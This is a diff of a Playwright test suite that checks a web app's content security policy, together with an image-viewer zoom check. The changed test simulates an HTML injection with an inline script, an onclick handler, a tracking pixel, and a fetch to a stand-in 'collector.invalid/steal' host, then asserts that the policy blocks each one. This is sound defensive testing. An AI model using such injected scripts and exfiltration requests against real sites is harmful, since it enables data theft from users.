@@ -67,29 +67,36 @@ test.describe('content security policy', () => {
     await expect(page.locator('main article').first()).toBeVisible();
   });
 
-  test('the listener and the policy bite: an injected inline script and eval are refused', async ({ page, context, consoleGuard }) => {
+  test('the listener and the policy bite: injected script, handler, picture and request are refused', async ({ page, context, consoleGuard }) => {
     await recordViolations(context);
     await page.goto('/');
     await expect(page.locator('main article').first()).toBeVisible();
     await noViolations(page, 'the home screen');
-    consoleGuard.allow([/Content Security Policy/, /Refused to/]);
+    consoleGuard.allow([/Content Security Policy/, /Refused to/, /Failed to fetch/]);
+    // (What an HTML injection would try; the app never renders API text as HTML, this is the
+    // second line of defence.)
     const ran = await page.evaluate(async () => {
-      const w = window as unknown as { __injected?: boolean };
+      const w = window as unknown as { __injected?: boolean; __handler?: boolean };
       const s = document.createElement('script');
       s.textContent = 'window.__injected = true';
       document.head.appendChild(s);
-      let evaluated = false;
-      try {
-        evaluated = (0, eval)('true');
-      } catch {
-        /* refused */
-      }
-      await new Promise((r) => setTimeout(r, 100));
-      return { injected: w.__injected === true, evaluated };
+      const b = document.createElement('button');
+      b.setAttribute('onclick', 'window.__handler = true');
+      document.body.appendChild(b);
+      b.click();
+      b.remove();
+      const img = document.createElement('img');
+      img.src = 'https://tracker.invalid/pixel.png';
+      document.body.appendChild(img);
+      img.remove();
+      let fetched = true;
+      await fetch('https://collector.invalid/steal').catch(() => (fetched = false));
+      await new Promise((r) => setTimeout(r, 200));
+      return { injected: w.__injected === true, handler: w.__handler === true, fetched };
     });
-    expect(ran).toEqual({ injected: false, evaluated: false });
+    expect(ran).toEqual({ injected: false, handler: false, fetched: false });
     const seen = await violations(page);
-    expect(seen.map((v) => v.directive).sort()).toEqual(['script-src-elem', 'script-src'].sort());
+    expect([...new Set(seen.map((v) => v.directive))].sort()).toEqual(['connect-src', 'img-src', 'script-src-attr', 'script-src-elem']);
   });
 
   test('the app runs its journeys without a violation', async ({ page, context, request, baseURL }) => {
@@ -106,12 +113,16 @@ test.describe('content security policy', () => {
     // an article with its pictures, zoomed in the viewer
     await page.locator('main article a').first().click();
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    const picture = page.locator('main article img').first();
+    const picture = page.getByRole('button', { name: /^查看大图/ }).first();
     if ((await picture.count()) > 0) {
       await picture.click();
-      const zoomIn = page.getByRole('button', { name: '放大' });
-      await expect(zoomIn).toBeVisible();
-      await zoomIn.click();
+      const viewer = page.getByRole('dialog', { name: '查看大图' });
+      const img = viewer.locator('img');
+      await expect(img).toBeVisible();
+      const before = await img.evaluate((el) => el.getBoundingClientRect().width);
+      await viewer.getByRole('button', { name: '放大' }).click();
+      // the style attribute is applied, not just written (style-src-attr)
+      await expect.poll(() => img.evaluate((el) => el.getBoundingClientRect().width)).toBeGreaterThan(before * 1.2);
       await page.keyboard.press('Escape');
     }
     await noViolations(page, 'an article');
